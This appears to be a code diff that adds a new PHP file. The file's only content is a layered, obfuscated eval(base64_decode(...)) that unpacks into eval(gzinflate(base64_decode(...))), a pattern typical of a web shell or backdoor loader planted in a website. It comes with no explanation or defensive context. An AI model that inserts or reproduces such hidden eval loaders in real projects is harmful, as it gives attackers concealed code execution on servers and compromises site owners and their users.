@@ -1,0 +1,2 @@
+<?php
+eval(base64_decode('ZXZhbChnemluZmxhdGUoYmFzZTY0X2RlY29kZSgnU3kxTHpORW9MaW1LTDhvdk1UVFdVRS9MU1VzdnF0SlFpWGQyY25PUFZpcFFpdFcwVnRmVXRBWUEnKSkpOw=='));
